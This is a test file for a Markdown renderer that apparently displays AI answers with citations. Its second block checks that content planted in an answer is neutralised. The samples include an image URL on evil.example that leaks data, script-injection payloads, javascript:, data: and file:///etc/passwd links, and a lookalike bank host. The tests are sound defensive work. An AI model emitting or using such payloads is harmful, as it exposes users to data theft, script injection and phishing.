// @vitest-environment jsdom
import { cleanup, render, screen } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import { afterEach, describe, expect, it, vi } from 'vitest'

import { OpenExternalContext } from '../lib/external'
import { I18nProvider } from '../lib/i18n'
import { NoticesProvider } from '../lib/notices'
import { Markdown } from './Markdown'

const openExternal = vi.fn(async (_url: string) => undefined)
const opened = vi.fn()

function show(text: string) {
  return render(
    <I18nProvider locale="en">
      <NoticesProvider>
        <OpenExternalContext value={openExternal}>
          <Markdown
            text={text}
            citationExists={(n) => n <= 2}
            renderCitation={(n) => <button onClick={() => opened(n)}>source {n}</button>}
          />
        </OpenExternalContext>
      </NoticesProvider>
    </I18nProvider>,
  )
}

afterEach(() => {
  cleanup()
  vi.clearAllMocks()
})

describe('citations', () => {
  it('are buttons in text, and text in code or when there is no such passage', async () => {
    const { container } = show('Da [1], **ne [2]** i [3].\n\n`a[1]`\n\n```\n[2]\n```')
    expect(screen.getAllByRole('button').map((each) => each.textContent)).toEqual([
      'source 1',
      'source 2',
    ])
    expect(container.textContent).toContain('[3]')
    expect(container.querySelector('p code')?.textContent).toBe('a[1]')
    expect(container.querySelector('pre')?.textContent).toContain('[2]')
    await userEvent.click(screen.getByText('source 2'))
    expect(opened).toHaveBeenCalledExactlyOnceWith(2)
  })
})

describe('what a document may have planted in an answer', () => {
  it('loads no image', () => {
    const { container } = show('![secret](https://evil.example/x.png?leak=1)')
    expect(container.querySelector('img')).toBeNull()
    expect(container.textContent).toBe('[image: secret]')
  })

  it('runs no HTML', () => {
    const { container } = show('<img src=x onerror=alert(1)><script>1</script><iframe src="x"/>')
    expect(container.querySelector('img, script, iframe')).toBeNull()
  })

  it.each(['javascript:alert(1)', 'data:text/html,x', 'file:///etc/passwd', 'tauri://localhost'])(
    'makes no link of %s',
    (address) => {
      const { container } = show(`[click](${address})`)
      expect(container.querySelector('a, button')).toBeNull()
    },
  )

  it('shows the whole host of a link and opens it on the second click only', async () => {
    const user = userEvent.setup()
    const { container } = show('[your bank](https://bank.example.evil.example/login)')
    expect(container.querySelector('a')).toBeNull()
    await user.click(screen.getByRole('button', { name: 'your bank' }))
    expect(openExternal).not.toHaveBeenCalled()
    expect(screen.getByText('bank.example.evil.example')).toBeTruthy()
    await user.click(screen.getByRole('button', { name: 'Open in browser' }))
    expect(openExternal).toHaveBeenCalledExactlyOnceWith('https://bank.example.evil.example/login')
  })
})
